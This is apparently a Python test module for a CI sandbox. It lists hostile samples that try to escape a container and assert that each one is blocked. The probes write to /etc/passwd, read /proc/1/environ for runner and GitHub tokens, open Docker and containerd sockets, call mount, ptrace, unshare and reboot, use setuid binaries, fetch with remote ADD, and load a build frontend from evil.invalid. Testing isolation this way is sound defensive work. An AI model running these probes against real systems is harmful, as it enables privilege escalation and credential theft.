"""
Samples that reach out: for the runner, its network, its engine, its secrets, its privileges.

Each makes one bounded attempt, towards the test's own listener or a documentation address.
"""

from __future__ import annotations

from action.hostile.sample import IMAGE, Sample, attack, built

_CONNECT = """\
import socket, sys
for host, port in {targets}:
    try:
        with socket.create_connection((host, port), 1) as connection:
            connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            print("REACHED", host, connection.recv(100))
    except OSError as error:
        print("refused", host, error)
"""
_HOST = _CONNECT.replace("{targets}", "[({host!r}, {port})]")
_SYSCALLS = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, *arguments):
    result = getattr(libc, name)(*arguments)
    print(name, "DONE" if result != -1 else os.strerror(ctypes.get_errno()))
"""

SAMPLES: tuple[Sample, ...] = (
    attack(
        "write to the root file system",
        "import sys\n"
        "failed = 0\n"
        "for path in ('/etc/passwd', '/usr/bin/env', '/checkout/attack.py', '/x', '/var/tmp/x'):\n"
        "    try:\n"
        "        open(path, 'a').write('x'); print('WRITTEN', path)\n"
        "    except OSError as error:\n"
        "        print(error); failed += 1\n"
        "sys.exit(failed)\n",
        conclusion="failure",
        failure="tests_failed",
        findings="output:read_only",
        hidden=("WRITTEN",),
    ),
    attack(
        "mount",
        _SYSCALLS + "attempt('mount', b'none', b'/tmp', b'tmpfs', 0, None)\n"
        "attempt('umount2', b'/proc', 2)\nattempt('chroot', b'/tmp')\n",
        findings="output:not_permitted",
        hidden=("DONE",),
    ),
    attack(
        "name spaces of its own",
        _SYSCALLS + "for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):\n"
        "    attempt('unshare', flag)\n"
        "attempt('setns', os.open('/proc/1/ns/net', os.O_RDONLY), 0x40000000)\n",
        findings="output:not_permitted",
        hidden=("DONE",),
    ),
    attack(
        "ptrace of a process of the runner",
        _SYSCALLS + "for pid in range(2, 40000, 37):\n"
        "    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: print('TRACED', pid)\n"
        "print('own process ids:', sorted(filter(str.isdigit, os.listdir('/proc'))))\n",
        shown=("own process ids: ['1',",),
        hidden=("TRACED",),
    ),
    attack(
        "kernel interfaces",
        _SYSCALLS + "attempt('syscall', 321, 5, 0, 0)\nattempt('syscall', 250, 0, 0)\n"
        "attempt('reboot', 0x89ABCDEF)\nattempt('swapon', b'/tmp/x', 0)\n"
        "attempt('init_module', b'', 0, b'')\n",
        findings="output:not_permitted",
        hidden=("DONE",),
    ),
    attack(
        "read the environment",
        "print(open('/proc/self/environ').read().replace('\\0', '\\n'))\n"
        "print(open('/proc/1/environ').read().replace('\\0', '\\n'))\n",
        shown=("ODYSSEY_SANDBOX=1",),
        hidden=("GITHUB_", "RUNNER_", "SANDBOX_PATH", "ghs_0123456789"),
    ),
    attack(
        "read the runner's files",
        "import os\n"
        "for path in ('{secret}', '/proc/1/root{secret}', '/proc/1/cwd/{secret}', 'link'):\n"
        "    try: print('GOT', open(path).read())\n"
        "    except OSError as error: print(type(error).__name__, path)\n",
        hidden=("GOT", "the runner's own secret"),
    ),
    attack(
        "the engine's socket",
        "import socket\n"
        "for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock', "
        "'/run/containerd/containerd.sock'):\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try: s.connect(path); print('CONNECTED', path)\n"
        "    except OSError as error: print(error)\n",
        hidden=("CONNECTED",),
    ),
    attack(
        "the internet",
        _CONNECT.replace("{targets}", "[('192.0.2.1', 80), ('2001:db8::1', 80)]"),
        findings="output:no_network",
        hidden=("REACHED",),
    ),
    attack(
        "the internet by name",
        "import socket\ntry: print('RESOLVED', socket.getaddrinfo('example.invalid', 80))\n"
        "except OSError as error: print(error)\n",
        findings="output:no_network",
        hidden=("RESOLVED",),
    ),
    attack(
        "the metadata address has no route",
        "print(open('/proc/net/route').read(), open('/proc/net/dev').read())\n"
        + _CONNECT.replace("{targets}", "[('192.0.2.254', 80)]"),
        findings="output:no_network",
        hidden=("REACHED", "eth0"),
    ),
    attack(
        "a service of the runner",
        _HOST,
        findings="output:no_network",
        hidden=("REACHED", "hello from the host"),
    ),
    attack(
        "a service of the runner, isolated",
        _HOST,
        shown=("refused",),
        hidden=("REACHED", "hello from the host"),
        network="isolated",
    ),
    attack(
        "the gateway of the isolated network",
        "import re, socket\n"
        "hosts = [l.split()[0] for l in open('/etc/hosts') if re.match(r'\\d+\\.', l)]\n"
        "own = [address for address in hosts if not address.startswith('127')]\n"
        "targets = [(a.rsplit('.', 1)[0] + '.1', {port}) for a in own]\n"
        "print('targets', targets)\n" + _CONNECT.replace("{targets}", "targets"),
        shown=("targets [('1", "refused"),
        hidden=("REACHED", "hello from the host"),
        network="isolated",
    ),
    attack(
        "another container",
        _CONNECT.replace("{targets}", "[({neighbour!r}, 8000)]"),
        findings="output:no_network",
        hidden=("REACHED",),
    ),
    attack(
        "another container, isolated",
        _CONNECT.replace("{targets}", "[({neighbour!r}, 8000)]"),
        shown=("refused",),
        hidden=("REACHED",),
        network="isolated",
    ),
    built(
        "setuid",
        "RUN cp /usr/bin/id /id && chmod 6755 /id\nCOPY attack.py /attack.py\n",
        files={
            "attack.py": "import os, subprocess\n"
            "print(subprocess.run(['/id'], capture_output=True, text=True).stdout)\n"
            "for call in (lambda: os.setuid(0), lambda: os.setgroups([0])):\n"
            "    try: call(); print('BECAME root')\n"
            "    except OSError as error: print(error)\n",
        },
        conclusion="success",
        phase=None,
        findings="output:not_permitted",
        shown=("uid=65534",),
        hidden=("euid=0", "BECAME"),
        test_command="python3 /attack.py",
        port="none",
    ),
    built(
        "root in the container is no root",
        "COPY attack.py /attack.py\n",
        files={
            "attack.py": "import os, socket\n"
            "print('uid', os.getuid())\n"
            "for name, call in (\n"
            "    ('mknod', lambda: os.mknod('/tmp/disk', 0o60600, os.makedev(8, 0))),\n"
            "    ('chown', lambda: (open('/tmp/f', 'w'), os.chown('/tmp/f', 1, 1))),\n"
            "    ('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),\n"
            "    ('clock', lambda: __import__('time').clock_settime(0, 0)),\n"
            "):\n"
            "    try: call(); print(name, 'DONE')\n"
            "    except OSError as error: print(name, error)\n",
        },
        conclusion="success",
        phase=None,
        findings="output:not_permitted",
        shown=("uid 0",),
        hidden=("DONE",),
        test_command="python3 /attack.py",
        port="none",
        user="0:0",
    ),
    built(
        "ADD of a remote URL",
        "ADD http://{host}:{port}/x /x\n",
        failure="remote_source",
        hidden=("hello from the host",),
    ),
    built(
        "ADD of a remote URL by a variable",
        "ARG FROM_WHERE=http://{host}:{port}/x\nADD $FROM_WHERE /x\n",
        failure="remote_source",
        hidden=("hello from the host",),
    ),
    built(
        "a build that asks the runner",
        "COPY attack.py /\nRUN python3 /attack.py\n",
        files={"attack.py": _HOST + "sys.exit(1)\n"},
        failure="build_failed",
        hidden=("REACHED", "hello from the host"),
    ),
    built(
        "a foreign build frontend",
        "",
        files={"Dockerfile": f"# syntax=evil.invalid/frontend:1\nFROM {IMAGE}\n"},
        failure="foreign_frontend",
    ),
)
